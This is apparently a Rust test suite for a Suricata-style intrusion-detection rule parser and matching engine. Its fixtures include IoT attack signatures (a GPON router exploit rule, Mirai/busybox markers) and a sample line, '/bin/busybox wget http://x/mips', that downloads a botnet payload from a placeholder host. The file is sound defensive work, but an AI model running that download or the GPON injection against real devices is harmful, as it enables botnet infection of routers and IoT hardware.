use super::*;
use crate::parse::{Cmp, Cond};

fn rule(s: &str) -> Rule {
    match parse_rule(s, &Vars::default()) {
        Ok(r) => r,
        Err(e) => unreachable!("{s}: {e:?}"),
    }
}

#[test]
fn parses_header_and_options() {
    let r = rule(
        r#"alert http $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"ET EXPLOIT GPON \"x\""; flow:to_server,established; http.method; content:"POST"; http.uri; content:"/GponForm/diag_Form?images/"; fast_pattern; content:"dest_host"; distance:0; within:40; nocase; classtype:attempted-admin; sid:2025283; rev:2; metadata:former_category EXPLOIT;)"#,
    );
    assert_eq!(r.sid, 2025283);
    assert_eq!(r.msg, "ET EXPLOIT GPON \"x\"");
    assert_eq!(r.flow.to_server, Some(true));
    assert_eq!(r.buffers.get(&Buf::HttpUri).map(Vec::len), Some(2));
    assert_eq!(r.fast_pattern, Some((Buf::HttpUri, 0)));
    assert!(r.dport.contains(80) && !r.dport.contains(81));
    let home = crate::vars::Vars::default();
    let ext = home.addr("$EXTERNAL_NET").ok();
    assert!(
        ext.is_some_and(|e| !e.contains(&v4([192, 168, 1, 2])) && e.contains(&v4([8, 8, 8, 8])))
    );
}

fn v4(a: [u8; 4]) -> [u8; 16] {
    std::net::Ipv4Addr::from(a).to_ipv6_mapped().octets()
}

#[test]
fn modifier_style_moves_content() {
    let r = rule(
        r#"alert tcp any any -> any any (msg:"m"; content:"GET"; http_method; content:"/a"; http_uri; content:"b"; http_uri; distance:0; sid:1;)"#,
    );
    assert_eq!(r.buffers.get(&Buf::HttpMethod).map(Vec::len), Some(1));
    assert_eq!(r.buffers.get(&Buf::HttpUri).map(Vec::len), Some(2));
    assert!(!r.buffers.contains_key(&Buf::Payload));
}

#[test]
fn content_hex_and_escapes() {
    assert_eq!(
        parse::parse_content(r#""a|0d 0A|b\;""#).ok(),
        Some(b"a\r\nb;".to_vec())
    );
    assert!(parse::parse_content(r#""|0g|""#).is_err());
    assert!(parse::parse_content(r#""|0d""#).is_err());
}

#[test]
fn unsupported_is_reported_with_reason() {
    let e = parse_rule(
        r#"alert tcp any any -> any any (msg:"m"; content:"a"; byte_extract:1,0,x; sid:9;)"#,
        &Vars::default(),
    );
    assert_eq!(e.err().map(|u| u.key), Some("keyword:byte_extract".into()));
    let e = parse_rule(
        r#"alert tcp any any -> any any (msg:"m"; pcre:"/(?=a)b/"; sid:9;)"#,
        &Vars::default(),
    );
    assert_eq!(e.err().map(|u| u.key), Some("pcre:lookaround".into()));
    let e = parse_rule(
        r#"alert tcp any any -> any any (msg:"m"; pcre:"/a/E"; sid:9;)"#,
        &Vars::default(),
    );
    assert_eq!(e.err().map(|u| u.key), Some("pcre-flag:E".into()));
    let e = parse_rule(
        r#"alert smb any any -> any any (msg:"m"; sid:9;)"#,
        &Vars::default(),
    );
    assert_eq!(e.err().map(|u| u.key), Some("proto:smb".into()));
}

#[test]
fn hostile_rules_are_bounded() {
    let big = "A".repeat(5000);
    let e = parse_rule(
        &format!(r#"alert tcp any any -> any any (msg:"m"; content:"{big}"; sid:9;)"#),
        &Vars::default(),
    );
    assert_eq!(e.err().map(|u| u.key), Some("bound:content-length".into()));
    // Catastrophic for backtracking engines, linear for regex; size-bounded.
    let r = rule(r#"alert tcp any any -> any any (msg:"m"; pcre:"/(a+)+$/"; sid:9;)"#);
    let conds = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
    let hay = [b'a'; 30000];
    assert!(inspect::inspect(&conds, &hay).is_some());
    let e = parse_rule(
        r#"alert tcp any any -> any any (msg:"m"; pcre:"/(x{1000}){1000}/"; sid:9;)"#,
        &Vars::default(),
    );
    assert_eq!(e.err().map(|u| u.key), Some("bound:pcre-size".into()));
    let many: String = (0..9).map(|i| format!("flowbits:set,b{i}; ")).collect();
    let e = parse_rule(
        &format!(r#"alert tcp any any -> any any (msg:"m"; {many} sid:9;)"#),
        &Vars::default(),
    );
    assert_eq!(e.err().map(|u| u.key), Some("bound:flowbits".into()));
}

#[test]
fn relative_matching_backtracks() {
    let r = rule(
        r#"alert tcp any any -> any any (msg:"m"; content:"ab"; content:"cd"; distance:1; within:3; sid:1;)"#,
    );
    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
    // First "ab" is followed by "cd" too far away; the second one matches.
    assert!(inspect::inspect(&c, b"ab.....cd abxcd").is_some());
    assert!(inspect::inspect(&c, b"ab.....cd").is_none());
    let r = rule(
        r#"alert tcp any any -> any any (msg:"m"; content:"x"; depth:3; content:!"bad"; isdataat:1,relative; sid:1;)"#,
    );
    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
    assert!(inspect::inspect(&c, b"..x12").is_some());
    assert!(inspect::inspect(&c, b"..x1").is_none());
    assert!(inspect::inspect(&c, b"..x12bad").is_none());
    assert!(inspect::inspect(&c, b"...x12").is_none());
}

#[test]
fn cmp_and_flags() {
    assert_eq!(parse::parse_cmp("d", "5<>9").ok(), Some(Cmp::Range(5, 9)));
    assert!(Cmp::Range(5, 9).test(6) && !Cmp::Range(5, 9).test(9));
    let r = rule(r#"alert tcp any any -> any 23 (msg:"m"; flags:S,12; sid:1;)"#);
    let f = r.flags.unwrap_or(parse::TcpFlags {
        bits: 0,
        ignore: 0,
        mode: 0,
    });
    assert!(f.test(0x02) && f.test(0xc2) && !f.test(0x12));
}

#[test]
fn byte_test_and_jump() {
    let r = rule(
        r#"alert udp any any -> any any (msg:"m"; content:"|01|"; depth:1; byte_test:1,&,0x40,0,relative; byte_jump:1,0; content:"z"; within:1; sid:1;)"#,
    );
    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
    assert!(matches!(c.get(1), Some(Cond::ByteTest(_))));
    // byte_jump reads 0x02 at 0 → continues at 1 + 2 = 3.
    assert!(inspect::inspect(&c, b"\x01\x40\x00z").is_none());
    assert!(inspect::inspect(&c, &[0x01, 0x40, 0, b'z']).is_none());
}

#[test]
fn http_uri_normalization() {
    assert_eq!(
        http::normalize_uri(b"/a/./b//../c%2ephp?x=%41"),
        b"/a/b/c.php?x=A".to_vec()
    );
}

#[test]
fn corpus_support_report() {
    let dir =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/kb/et-open-iot");
    if !dir.is_dir() {
        eprintln!("skipping: {} not present", dir.display());
        return;
    }
    let (set, rep) = match RuleSet::load_dir(&dir) {
        Ok(x) => x,
        Err(e) => unreachable!("{e}"),
    };
    assert_eq!(
        rep.rules,
        rep.supported + rep.rejected.len() + rep.duplicates
    );
    assert_eq!(set.rules.len(), rep.supported);
    for r in &rep.rejected {
        eprintln!("rejected sid {:?}: {}: {}", r.sid, r.key, r.detail);
        assert!(!r.key.is_empty() && !r.detail.is_empty());
    }
    // The issue's bar: at least 95% of the IoT subset supported (sids in both files count once).
    assert!(
        rep.supported * 100 >= (rep.rules - rep.duplicates) * 95,
        "{} of {} supported: {:?}",
        rep.supported,
        rep.rules,
        rep.rejected
    );
}

proptest::proptest! {
    #[test]
    fn parser_never_panics(s in "\\PC{0,300}") {
        let _ = parse_rule(&s, &Vars::default());
    }

    #[test]
    fn structured_rules_never_panic(
        kw in proptest::sample::select(vec!["content", "pcre", "byte_test", "byte_jump", "isdataat", "bsize", "dsize", "flags", "flowbits", "threshold", "flow", "within", "distance", "depth", "offset"]),
        v in "[-!0-9a-z,|\"/<> ]{0,20}",
        data in proptest::collection::vec(proptest::num::u8::ANY, 0..64),
    ) {
        let line = format!("alert tcp any any -> any any (msg:\"x\"; content:\"a\"; {kw}:{v}; sid:1;)\n");
        let mut bytes = line.into_bytes();
        bytes.extend_from_slice(&data);
        fuzzing::parse_rule(&bytes);
    }
}

#[test]
fn pcre_flags_switch_on() {
    // `i` must enable case folding (it was once emitted after the `-` and so disabled).
    let r = rule(r#"alert tcp any any -> any any (msg:"m"; pcre:"/^Hello, World$/i"; sid:1;)"#);
    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
    assert!(inspect::inspect(&c, b"hello, world").is_some());
    let r = rule(r#"alert tcp any any -> any any (msg:"m"; pcre:"/^a.b$/s"; sid:1;)"#);
    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
    assert!(inspect::inspect(&c, b"a\nb").is_some());
    let r = rule(r#"alert tcp any any -> any any (msg:"m"; pcre:"/^a.b$/"; sid:1;)"#);
    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
    assert!(inspect::inspect(&c, b"a\nb").is_none());
    assert!(inspect::inspect(&c, b"A.b").is_none());
}

#[test]
fn http_message_without_headers_has_no_header_buffers() {
    let tx = http::request(b"GET /x HTTP/1.0\r\n\r\n", 100);
    assert!(
        tx.as_ref()
            .is_some_and(|t| t.get(Buf::HttpUri) == Some(&b"/x"[..]))
    );
    assert!(
        tx.as_ref()
            .is_some_and(|t| t.get(Buf::HttpHeaderNames).is_none())
    );
    let tx = http::request(b"GET /x HTTP/1.0\r\nAccept: */*\r\n\r\n", 100);
    assert!(tx.is_some_and(|t| t.get(Buf::HttpHeaderNames) == Some(&b"\r\nAccept\r\n\r\n"[..])));
}

fn engine(rules: &str) -> RuleEngine {
    let (set, rep) = RuleSet::from_text(&[("t.rules".into(), rules.into())], &BTreeMap::new());
    assert!(rep.rejected.is_empty(), "{:?}", rep.rejected);
    RuleEngine::new(Arc::new(set))
}

fn pkt(proto: u8, sport: u16, dport: u16, payload: &[u8]) -> PacketInfo<'_> {
    PacketInfo {
        ts: 1,
        ordinal: 1,
        proto,
        src: v4([203, 0, 113, 7]),
        dst: v4([192, 168, 1, 1]),
        sport,
        dport,
        to_server: true,
        established: true,
        tcp_flags: 0x18,
        tcp_seq: 1000,
        icmp: None,
        payload,
        device: None,
    }
}

#[test]
fn port_groups_select_rules_by_port() {
    let mut e = engine(
        "alert tcp any any -> any 23 (msg:\"a\"; content:\"busybox\"; sid:1;)\n\
         alert tcp any any -> any [2323,8000:8100] (msg:\"b\"; content:\"busybox\"; sid:2;)\n\
         alert udp any 1985 <> any 1985 (msg:\"c\"; content:\"hsrp\"; sid:3;)\n\
         alert tcp any any -> any !23 (msg:\"d\"; content:\"busybox\"; sid:4;)\n",
    );
    let sids = |e: &mut RuleEngine, p: PacketInfo<'_>| {
        e.events.clear();
        let mut st = None;
        e.packet(&mut st, &p);
        let mut v: Vec<u32> = e.events.iter().map(|ev| ev.sid).collect();
        v.sort_unstable();
        v
    };
    assert_eq!(sids(&mut e, pkt(6, 40000, 23, b"/bin/busybox")), vec![1]);
    assert_eq!(
        sids(&mut e, pkt(6, 40000, 8050, b"/bin/busybox")),
        vec![2, 4]
    );
    assert_eq!(sids(&mut e, pkt(6, 40000, 8101, b"/bin/busybox")), vec![4]);
    assert_eq!(sids(&mut e, pkt(17, 1985, 1985, b"hsrp")), vec![3]);
    assert_eq!(
        sids(&mut e, pkt(17, 1985, 1986, b"hsrp")),
        Vec::<u32>::new()
    );
    assert_eq!(
        sids(&mut e, pkt(6, 40000, 23, b"nothing")),
        Vec::<u32>::new()
    );
}

#[test]
fn stream_match_after_flowbit_set_later() {
    // Suricata inspects the stream when it is flushed, so a thresholded `isset` rule whose
    // content came before the setter's still alerts once the bit is set.
    let mut e = engine(
        "alert tcp any any -> any 23 (msg:\"set\"; flow:to_server,established; content:\"/bin/busybox\"; flowbits:set,bb; flowbits:noalert; sid:1;)\n\
         alert tcp any any -> any 23 (msg:\"en\"; flow:to_server,established; content:\"enable\"; flowbits:isset,bb; threshold: type limit, count 1, track by_src, seconds 30; sid:2;)\n",
    );
    let mut st = None;
    let mut a = pkt(6, 40000, 23, b"enable\r\n");
    e.packet(&mut st, &a);
    assert!(e.events.is_empty());
    a.tcp_seq = 1008;
    a.payload = b"/bin/busybox MIRAI\r\n";
    e.packet(&mut st, &a);
    assert_eq!(
        e.events.iter().map(|ev| ev.sid).collect::<Vec<_>>(),
        vec![2]
    );
}

#[test]
fn gzip_and_deflate_response_bodies_are_decoded_and_bounded() {
    use std::io::Write;
    let plain = b"<html>/bin/busybox wget http://x/mips</html>";
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let _ = gz.write_all(plain);
    let gz = gz.finish().unwrap_or_default();
    let mut zl = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    let _ = zl.write_all(plain);
    let zl = zl.finish().unwrap_or_default();
    for (enc, body) in [("gzip", &gz), ("deflate", &zl)] {
        let mut msg = format!(
            "HTTP/1.1 200 OK\r\nContent-Encoding: {enc}\r\nContent-Length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        msg.extend_from_slice(body);
        let tx = http::response(&msg, 1000);
        assert_eq!(
            tx.as_ref().and_then(|t| t.get(Buf::HttpResponseBody)),
            Some(&plain[..]),
            "{enc}"
        );
    }
    // A bomb: 10 MB of zeros stops at the cap.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let _ = gz.write_all(&vec![0u8; 10 << 20]);
    let bomb = gz.finish().unwrap_or_default();
    let headers: Vec<(&[u8], &[u8])> = vec![(b"Content-Encoding", b"gzip")];
    assert_eq!(http::decode_body(&headers, bomb, 4096).len(), 4096);
    // Not gzip at all: the raw bytes stay.
    assert_eq!(
        http::decode_body(&headers, b"plain".to_vec(), 4096),
        b"plain"
    );
}

#[test]
fn pcre_dollar_matches_before_a_final_newline() {
    let payload = |s: &str| {
        let r = rule(&format!(
            "alert tcp any any -> any any (msg:\"m\"; {s} sid:1;)"
        ));
        r.buffers.get(&Buf::Payload).cloned().unwrap_or_default()
    };
    // PCRE without /m: `$` at the end or before a final newline, not before an inner one.
    let c = payload(r#"pcre:"/^abc$/";"#);
    assert!(inspect::inspect(&c, b"abc").is_some());
    assert!(inspect::inspect(&c, b"abc\n").is_some());
    assert!(inspect::inspect(&c, b"abc\n\n").is_none());
    assert!(inspect::inspect(&c, b"abc\nx").is_none());
    let c = payload(r#"pcre:"/[^&$]{3}(?:&|$)/";"#);
    assert!(inspect::inspect(&c, b"abc\n").is_some());
    assert!(inspect::inspect(&c, b"a$c").is_none());
    // `$` is zero-width: the match ends before the newline, where a relative content finds it.
    let c = payload(r#"pcre:"/abc$/"; content:"|0a|"; distance:0; within:1;"#);
    assert!(inspect::inspect(&c, b"xabc\n").is_some());
    assert!(inspect::inspect(&c, b"xabc").is_none());
    // A newline the pattern itself takes stays in the match.
    let c = payload(r#"pcre:"/abc\n?$/"; content:"|0a|"; distance:0; within:1;"#);
    assert!(inspect::inspect(&c, b"abc\n").is_none());
    // With /m, `$` is before any newline (same in both syntaxes).
    let c = payload(r#"pcre:"/^abc$/m";"#);
    assert!(inspect::inspect(&c, b"x\nabc\ny").is_some());
    // A `$` with more pattern after it would need look-ahead: rejected with a reason.
    for p in [r#"/a$b/"#, r#"/(?:a$|b$)/"#, r#"/a$?/"#] {
        let e = parse_rule(
            &format!("alert tcp any any -> any any (msg:\"m\"; pcre:\"{p}\"; sid:9;)"),
            &Vars::default(),
        );
        assert_eq!(e.err().map(|u| u.key), Some("pcre:dollar".into()), "{p}");
    }
}

#[test]
fn address_sets_within_and_disjoint() {
    let v = Vars::default();
    let a = |s: &str| match v.addr(s) {
        Ok(x) => x,
        Err(e) => unreachable!("{s}: {e:?}"),
    };
    let home = a("$HOME_NET");
    assert!(a("192.168.1.0/24").within(&home));
    assert!(a("$HOME_NET").within(&home));
    assert!(!a("any").within(&home));
    assert!(!a("[192.168.1.0/24,8.8.8.8]").within(&home));
    assert!(!a("$EXTERNAL_NET").within(&home));
    assert!(a("$EXTERNAL_NET").disjoint(&home));
    assert!(a("8.8.0.0/16").disjoint(&home));
    assert!(!a("8.0.0.0/4").disjoint(&home));
    assert!(!a("any").disjoint(&home));
    assert!(!a("192.168.0.0/8").disjoint(&home));
    assert!(!a("![192.168.0.0/16,10.0.0.0/8]").disjoint(&home));
    assert!(a("![192.168.0.0/16,10.0.0.0/8,172.16.0.0/12]").disjoint(&home));
    // Unsure (negations in the other set): never claimed.
    assert!(!a("8.8.8.8").disjoint(&a("!10.0.0.0/8")));
    assert!(!a("10.1.1.1").within(&a("[10.0.0.0/8,!10.2.0.0/16]")));
}

#[test]
fn address_groups_keep_every_rule_that_can_match() {
    let mut e = engine(
        "alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:\"out\"; content:\"PRIVMSG\"; sid:1;)\n\
         alert tcp $EXTERNAL_NET any -> $HOME_NET any (msg:\"in\"; content:\"PRIVMSG\"; sid:2;)\n\
         alert tcp $HOME_NET any <> $EXTERNAL_NET any (msg:\"bi\"; content:\"PRIVMSG\"; sid:3;)\n\
         alert tcp any any -> $HOME_NET any (msg:\"to-home\"; content:\"PRIVMSG\"; sid:4;)\n\
         alert tcp any any -> 8.8.8.8 any (msg:\"host\"; content:\"PRIVMSG\"; sid:5;)\n",
    );
    let home = v4([192, 168, 1, 1]);
    let ext = v4([8, 8, 8, 8]);
    let cases: [([u8; 16], [u8; 16], Vec<u32>); 4] = [
        (home, ext, vec![1, 3, 5]),
        (ext, home, vec![2, 3, 4]),
        (home, home, vec![4]),
        (ext, ext, vec![5]),
    ];
    for (src, dst, want) in cases {
        e.events.clear();
        let mut st = None;
        let mut p = pkt(6, 40000, 6667, b"PRIVMSG #x :hi");
        p.src = src;
        p.dst = dst;
        e.packet(&mut st, &p);
        let mut got: Vec<u32> = e.events.iter().map(|ev| ev.sid).collect();
        got.sort_unstable();
        assert_eq!(got, want, "{src:?} -> {dst:?}");
    }
}
